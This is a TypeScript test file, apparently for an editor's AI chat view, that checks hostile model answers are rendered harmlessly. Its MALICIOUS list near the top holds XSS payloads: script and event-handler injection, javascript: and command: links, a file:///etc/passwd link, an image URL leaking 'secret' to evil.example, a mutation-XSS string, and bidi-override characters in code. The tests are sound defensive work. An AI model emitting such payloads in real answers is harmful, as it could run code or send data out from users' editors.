import assert from 'node:assert/strict';
import { ChatStage } from './chat-page.ts';
import type { ChatPage } from './chat-page.ts';
import { stateWith, streamingTurn, turn } from './states.ts';

/** What a model may write to make the view load, run or open something. */
const MALICIOUS = [
  '[fine](https://evil.example/) ![x](https://evil.example/?d=secret)',
  '![x](//evil.example/a.png) ![y](data:image/svg+xml;base64,PHN2Zy8+)',
  '<img src="https://evil.example/b.png" onerror="host.errors.push(\'ran\')">',
  '<script>host.errors.push("ran")</script><style>body{background:url(https://evil.example/c)}</style>',
  '<svg onload="host.errors.push(\'ran\')"><image href="https://evil.example/d"/></svg>',
  '<iframe src="https://evil.example/e"></iframe><object data="https://evil.example/f"></object>',
  '<a href="javascript:host.errors.push(\'ran\')">x</a> <form action="https://evil.example/g"><button>x</button></form>',
  '[ok](command:workbench.action.terminal.sendSequence?%7B%22text%22%3A%22x%22%7D)',
  '[ok](javascript:host.errors.push("ran")) [ok](vscode://a/b) [ok](file:///etc/passwd) [ok](data:text/html,x)',
  '<https://evil.example/" onclick="host.errors.push(1)>',
  '```mermaid\ngraph TD; A[<img src="https://evil.example/h">]-->B\n```',
  '```html" onclick="x\n<img src=x onerror=host.errors.push("ran")>\n```',
  '```<img src=x onerror=host.errors.push(1)>\ncode\n```',
  '| <img src=x onerror=host.errors.push(1)> | b |\n|---|---|\n| ![x](https://evil.example/i) | [x](command:a) |',
  '&lt;script&gt;host.errors.push(1)&lt;/script&gt; &#60;img src=x&#62;',
  '[a]: javascript:host.errors.push(1)\n[a] [b][a]',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=host.errors.push(1)&gt;">',
].join('\n\n');

describe('an answer that attacks', function () {
  this.timeout(20_000);
  let stage: ChatStage;
  let chat: ChatPage;
  before(async () => {
    stage = await ChatStage.open();
  });
  after(() => stage.close());

  it('makes no request, breaks no policy and runs nothing, streamed or replayed (cases 12 and 14)', async () => {
    chat = await stage.page(stateWith([turn('t1', { text: MALICIOUS }), streamingTurn('t2')]));
    const before = stage.requested.length;
    for (let offset = 0; offset < MALICIOUS.length; offset += 40)
      await chat.post({ type: 'delta', turnId: 't2', offset, text: MALICIOUS.slice(offset, offset + 40) });
    await chat.post({ type: 'turn', turn: turn('t2', { text: MALICIOUS }) });
    for (const element of await chat.page.locator('.md').all()) await element.hover();
    assert.deepEqual(stage.requested.slice(before), []);
    assert.deepEqual(
      stage.requested.filter((url) => !url.startsWith(stage.origin)),
      [],
    );
    assert.deepEqual(await chat.faults(), []);
    const found = await chat.page.evaluate<string[]>(
      `[...document.querySelectorAll('.md *')].filter((e) => /^(IMG|SCRIPT|STYLE|IFRAME|OBJECT|FORM|IMAGE|MATH|LINK|META|VIDEO)$/i.test(e.tagName) || [...e.attributes].some((a) => /^on|^style$|^src/.test(a.name))).map((e) => e.outerHTML)`,
    );
    assert.deepEqual(found, []);
    const hrefs = await chat.page.evaluate<string[]>(
      `[...document.querySelectorAll('.md a')].map((a) => a.getAttribute('href'))`,
    );
    assert.deepEqual(hrefs, ['https://evil.example/', 'https://evil.example/']);
  });

  it('shows refused links and HTML as the text that they are (cases 13 and 14)', async () => {
    chat = await stage.page(
      stateWith([turn('t1', { text: '[ok](command:workbench.action.quit)\n\n<script>alert(1)</script>' })]),
    );
    assert.equal(
      (await chat.page.innerText('.md')).replace(/\s+/g, ' '),
      '[ok](command:workbench.action.quit) <script>alert(1)</script>',
    );
  });

  it('asks the host to open a link, by mouse, middle button and keyboard, and never navigates', async () => {
    chat = await stage.page(stateWith([turn('t1', { text: '[docs](https://example.com/a?b=1)' })]));
    const link = chat.page.locator('.md a');
    assert.equal(await link.getAttribute('title'), 'https://example.com/a?b=1');
    await link.click();
    await link.click({ button: 'middle' });
    await link.click({ modifiers: ['Control'] });
    await link.press('Enter');
    const opened = (await chat.posted()).filter((message) => message.type === 'link-open');
    assert.deepEqual(
      opened.map(({ href }) => href),
      Array(4).fill('https://example.com/a?b=1'),
    );
    assert.equal(chat.page.context().pages().length, 1);
    assert.equal(chat.page.url().startsWith(stage.origin), true);
  });

  it('asks the host for the file where an answer names a place, in text and in code, and never in a code block', async () => {
    const forged = '<a data-path="/etc/passwd" data-line="1">x</a>';
    const text = `See src/http.ts:42 and \`lib/a.ts#L3\`. ${forged}\n\n\`\`\`ts\n// src/no.ts:1\n\`\`\`\n`;
    chat = await stage.page(stateWith([turn('t1', { text })]));
    const links = chat.page.locator('.md a');
    assert.deepEqual(await links.allTextContents(), ['src/http.ts:42', 'lib/a.ts#L3']);
    await links.first().click();
    await links.last().press('Enter');
    const opened = (await chat.posted()).filter((message) => message.type === 'source-open');
    assert.deepEqual(
      opened.map(({ source }) => source),
      [
        { path: 'src/http.ts', line: 42 },
        { path: 'lib/a.ts', line: 3 },
      ],
    );
    assert.equal(chat.page.url().startsWith(stage.origin), true);
  });

  it('marks characters that cannot be seen, in text and in code, and copies code as it was written', async () => {
    const code = 'if (isAdmin\u202E \u2066// check\u2069) {}';
    chat = await stage.page(
      stateWith([turn('t1', { text: `a\u202Eb \`c\u200Bd\` &#x202e;\n\n\`\`\`ts\n${code}\n\`\`\`\n` })]),
    );
    assert.deepEqual(await chat.page.locator('.md .invisible').allTextContents(), [
      'U+202E',
      'U+200B',
      'U+202E',
      'U+202E',
      'U+2066',
      'U+2069',
    ]);
    await chat.page.click('[data-code=copy]');
    assert.equal((await chat.lastPosted('code-copy'))?.text, code);
    await chat.page.click('[data-code=insert]');
    assert.equal((await chat.lastPosted('code-insert'))?.text, code);
  });

  it('survives malformed messages of any shape', async () => {
    chat = await stage.page(stateWith([turn('t1')]));
    for (const message of [
      '',
      'x',
      { type: 'state' },
      { type: 'turn', turn: { id: 't1' } },
      { type: 'delta', turnId: 't1' },
      { type: 'unknown' },
    ])
      await chat.post(message);
    await chat.post({ type: 'focus', text: 'still here' });
    assert.equal(await chat.page.inputValue('#question'), 'still here');
    assert.deepEqual(await chat.faults(), []);
  });
});
